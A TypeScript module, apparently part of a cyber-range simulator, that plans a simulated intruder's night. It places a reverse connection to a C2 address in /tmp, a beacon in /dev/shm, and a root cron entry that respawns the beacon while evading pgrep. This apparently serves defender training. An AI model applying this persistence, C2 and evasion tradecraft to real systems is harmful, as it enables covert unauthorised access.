import { type Dropped, implantShell } from "./implant.ts";
import type { Random } from "./random.ts";
import type { Range } from "./range.ts";

/** What the seed decides about the intruder's night, before it begins. */
export interface Plot {
  /** The reverse connection, in /tmp: deleted while it runs. */
  reverse: Tool;
  /** The beacon, in /dev/shm: killed by a responder, brought back by cron. */
  beacon: Tool;
  /** The file in /etc/cron.d that brings the beacon back. */
  cronFile: string;
  cronLine: string;
}
interface Tool {
  name: string;
  path: string;
  args: string;
  /** The line that it sends to the C2. */
  line: string;
  shell: Dropped;
}

/** Milliseconds between two beacons. */
const BEACON_EVERY = 2000;

export function plotNight(range: Range, random: Random): Plot {
  const tool = (folder: string, kind: "reverse" | "beacon", args: string): Tool => {
    const name = random.name(random.between(7, 11));
    const line = `${kind} ${name}`;
    const { address, port } = range.c2;
    const spec = { address, port, line, stays: kind === "reverse", everyMs: BEACON_EVERY, padding: random.bytes(64) };
    return { name, path: `${folder}/${name}`, args, line, shell: implantShell(`${folder}/${name}`, spec) };
  };
  const node = random.between(0x10, 0xff).toString(16);
  const reverse = tool("/tmp", "reverse", `--connect ${range.c2.address}:${range.c2.port} --retry 5 --node ${node}`);
  const beacon = tool("/dev/shm", "beacon", `-i 2 --node ${node} --quiet`);
  // pgrep -x looks at the process's own name: the shell that cron starts for this line does not match
  const again = `(setsid ${beacon.shell.run(beacon.args)} >/dev/null 2>&1 &)`;
  return {
    reverse,
    beacon,
    cronFile: `/etc/cron.d/${random.name(8)}`,
    cronLine: `* * * * * root pgrep -x ${beacon.name} >/dev/null || ${again}`,
  };
}
